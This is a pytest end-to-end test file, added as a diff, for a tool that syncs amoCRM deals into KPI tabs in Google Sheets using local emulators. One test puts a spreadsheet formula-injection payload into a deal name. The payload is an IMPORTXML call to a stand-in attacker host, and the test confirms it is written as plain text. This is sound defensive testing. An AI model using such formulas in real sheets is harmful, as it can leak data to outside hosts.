@@ -1,0 +1,253 @@
+"""Whole cycles against both emulators: what supervisors and managers would see."""
+
+from __future__ import annotations
+
+import signal
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass
+from datetime import UTC, datetime
+
+import pandas as pd
+import pytest
+import yaml
+
+from sheets_kpi.config import Config
+from sheets_kpi.cycle import run_cycle
+from sheets_kpi.emulators.amocrm import DEMO_TOKEN, AmoState, generate_agency
+from sheets_kpi.emulators.amocrm import serve as serve_amocrm
+from sheets_kpi.emulators.server import EmulatorServer
+from sheets_kpi.emulators.sheets import SheetsState
+from sheets_kpi.emulators.sheets import serve as serve_sheets
+from sheets_kpi.emulators.sheets.cells import Formula
+from sheets_kpi.kpi.engine import compute
+from sheets_kpi.kpi.inputs import Inputs
+from sheets_kpi.sheets.gateway import SheetsGateway
+from sheets_kpi.sheets.init_tabs import init_inputs
+from sheets_kpi.sources.amocrm import make_client
+from sheets_kpi.sources.amocrm.sync import sync
+from sheets_kpi.store.db import Store
+from sheets_kpi.store.frames import amocrm_frames
+from tests.conftest import ROOT, shipped_config
+
+BOOK = "e2e-book"
+
+
+@dataclass
+class World:
+    account: AmoState
+    amo_server: EmulatorServer
+    sheets: SheetsState
+    sheets_server: EmulatorServer
+    config: Config
+    store: Store
+
+    def gateway(self) -> SheetsGateway:
+        return SheetsGateway(self.config.google)
+
+    def cycle(self, now: datetime | None = None):
+        return run_cycle(
+            self.config, self.store, make_client(self.config.amocrm), self.gateway(), now=now
+        )
+
+    def worksheet(self, title: str):
+        return self.gateway().client.open_by_key(BOOK).worksheet(title)
+
+    def tab(self, title: str) -> list[list]:
+        return self.worksheet(title).get_values(value_render_option="UNFORMATTED_VALUE")
+
+    def data_kpi(self) -> pd.DataFrame:
+        header, *rows = self.tab("data_kpi")
+        frame = pd.DataFrame(rows, columns=header)
+        for column in ("manager_id", "plan", "fact", "achievement"):
+            frame[column] = pd.to_numeric(frame[column].replace("", None), errors="coerce")
+        return frame
+
+
+@pytest.fixture
+def world(tmp_path) -> Iterator[World]:
+    account = generate_agency(managers=8, months=2, seed=11)
+    amo_server = serve_amocrm(account, rps=1000)
+    sheets = SheetsState(seed=3)
+    sheets.create_spreadsheet("KPI", BOOK)
+    sheets_server = serve_sheets(state=sheets)
+    config = shipped_config(base_url=amo_server.url, requests_per_second=50, backfill_days=90)
+    config = config.model_copy(
+        update={
+            "store": tmp_path / "store.db",
+            "google": config.google.model_copy(
+                update={"spreadsheet": BOOK, "endpoint": sheets_server.url}
+            ),
+        }
+    )
+    store = Store(config.store)
+    sync(make_client(config.amocrm), store, config.amocrm)
+    gateway = SheetsGateway(config.google)
+    init_inputs(gateway, config, amocrm_frames(store)["users"])
+    period = datetime.now(UTC).strftime("%Y-%m")
+    plans = [[period, "", dept.id, kpi.id, 5] for dept in config.departments for kpi in dept.kpis]
+    gateway.http.values_append(
+        BOOK, "'Планы'!A1", params={"valueInputOption": "RAW"}, body={"values": plans}
+    )
+    yield World(account, amo_server, sheets, sheets_server, config, store)
+    amo_server.stop()
+    sheets_server.stop()
+
+
+def engine_now(world: World, now: datetime):
+    frames, _ = world.gateway().read_inputs(world.config)
+    return compute(
+        Inputs.build(**amocrm_frames(world.store), **frames), world.config, pd.Timestamp(now)
+    )
+
+
+def test_a_cycle_writes_what_the_engine_computes(world: World) -> None:
+    now = datetime.now(UTC)
+    report = world.cycle(now)
+    assert report.status == "ok", report.error
+    assert (report.sheets_read_requests, report.sheets_write_requests) == (2, 2)
+    expected = engine_now(world, now).kpi
+    written = world.data_kpi()
+    assert len(written) == len(expected)
+    merged = written.merge(expected, on=["manager_id", "kpi"], suffixes=("", "_engine"))
+    assert ((merged["fact"] - merged["fact_engine"]).abs().fillna(0) < 1e-9).all()
+    assert merged["fact"].isna().equals(merged["fact_engine"].isna())
+    titles = [s.title for s in world.sheets.get(BOOK).sheets]
+    for name in (
+        "Итоги — Продажи",
+        "Рейтинг — Продажи",
+        "Динамика — Продажи",
+        "Матрица",
+        "Клиенты",
+        "data_daily",
+        "data_managers",
+        "Проблемы данных",
+        "Журнал",
+    ):
+        assert name in titles
+    log = world.tab("Журнал")
+    assert len(log) == 2 and log[1][6] == "ok"
+
+
+def test_a_second_cycle_without_changes_writes_only_the_run_log(world: World) -> None:
+    now = datetime.now(UTC)
+    world.cycle(now)
+    again = world.cycle(now)
+    assert again.status == "ok"
+    assert again.sheets_write_requests == 1  # the Журнал row
+    assert again.rows_written == 0
+    assert len(world.tab("Журнал")) == 3
+
+
+def test_a_supervisors_plan_edit_changes_the_next_cycles_achievement(world: World) -> None:
+    now = datetime.now(UTC)
+    world.cycle(now)
+    kpi = world.data_kpi()
+    target = kpi[(kpi["kpi"] == "sales_rub") & (kpi["fact"] > 0)].iloc[0]
+    manager_id = int(target["manager_id"])
+    world.worksheet("Планы").append_rows(
+        [[now.strftime("%Y-%m"), manager_id, "", "sales_rub", float(target["fact"]) * 2]]
+    )
+    world.cycle(now)
+    kpi = world.data_kpi()
+    row = kpi[(kpi["kpi"] == "sales_rub") & (kpi["manager_id"] == manager_id)].iloc[0]
+    assert row["achievement"] == pytest.approx(0.5)
+
+
+def test_roster_changes_add_and_remove_manager_tabs(world: World) -> None:
+    now = datetime.now(UTC)
+    world.cycle(now)
+    roster = world.worksheet("Сотрудники")
+    first = roster.get_values("A2:B2")[0]
+    assert first[1] in [s.title for s in world.sheets.get(BOOK).sheets]
+    roster.update([["нет"]], "G2")  # the first manager leaves
+    roster.append_rows([[99, "Новый Сотрудник", "sales", "junior", "", "", "да", ""]])
+    world.cycle(now)
+    titles = [s.title for s in world.sheets.get(BOOK).sheets]
+    assert "Новый Сотрудник" in titles and first[1] not in titles
+
+
+def test_a_formula_in_a_deal_name_stays_text(world: World) -> None:
+    now = datetime.now(UTC)
+    world.cycle(now)
+    violations = amocrm_frames(world.store)["deal_violations"]
+    leads = world.account.entities["leads"]
+    roster_ids = {int(r[0]) for r in world.tab("Сотрудники")[1:]}
+    lead_id = next(
+        int(v) for v in violations["lead_id"] if leads[int(v)]["responsible_user_id"] in roster_ids
+    )
+    leads[lead_id]["name"] = '=IMPORTXML("http://evil.example/x", "//a")'
+    leads[lead_id]["updated_at"] = int(time.time())
+    world.account._changed()
+    assert world.cycle(now).status == "ok"
+    found = [
+        value
+        for sheet in world.sheets.get(BOOK).sheets
+        for value in sheet.cells.values()
+        if isinstance(value, str | Formula) and "IMPORTXML" in str(value)
+    ]
+    assert found and set(found) == {'=IMPORTXML("http://evil.example/x", "//a")'}
+    assert all(isinstance(value, str) for value in found)  # text cells, not formulas
+
+
+def test_an_expired_token_fails_the_cycle_clearly_but_still_writes_from_the_store(
+    world: World,
+) -> None:
+    config = world.config.model_copy(
+        update={
+            "amocrm": world.config.amocrm.model_copy(
+                update={
+                    "auth": world.config.amocrm.auth.model_copy(
+                        update={"long_lived_token": "expired"}
+                    )
+                }
+            )
+        }
+    )
+    report = run_cycle(config, world.store, make_client(config.amocrm), world.gateway())
+    assert report.status == "failed"
+    assert "Keys and scopes" in (report.error or "")
+    assert "data_kpi" in [s.title for s in world.sheets.get(BOOK).sheets]
+    assert world.tab("Журнал")[1][6] == "failed"
+
+
+def test_serve_runs_cycles_and_stops_cleanly_on_sigterm(world: World, tmp_path) -> None:
+    data = yaml.safe_load((ROOT / "config.yaml").read_text(encoding="utf-8"))
+    data["amocrm"].update(base_url=world.amo_server.url, requests_per_second=50, backfill_days=90)
+    data["google"].update(spreadsheet=BOOK, endpoint=world.sheets_server.url)
+    data["store"] = str(tmp_path / "serve.db")
+    path = tmp_path / "config.yaml"
+    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
+    process = subprocess.Popen(
+        [
+            sys.executable,
+            "-m",
+            "sheets_kpi",
+            "--config",
+            str(path),
+            "serve",
+            "--every-minutes",
+            "0.02",
+        ],
+        env={"AMO_TOKEN": DEMO_TOKEN, "PATH": ""},
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+    try:
+        deadline = time.monotonic() + 60
+        while time.monotonic() < deadline:
+            if (tmp_path / "serve.db").exists() and len(Store(tmp_path / "serve.db").runs()) >= 3:
+                break
+            time.sleep(0.3)
+        process.send_signal(signal.SIGTERM)
+        _, err = process.communicate(timeout=60)
+    finally:
+        process.kill()
+    assert process.returncode == 0, err
+    runs = Store(tmp_path / "serve.db").runs()
+    assert len(runs) >= 3
+    assert all(run["status"] in ("ok", "failed") for run in runs)
+    assert "SIGTERM received" in err and "worker stopped" in err
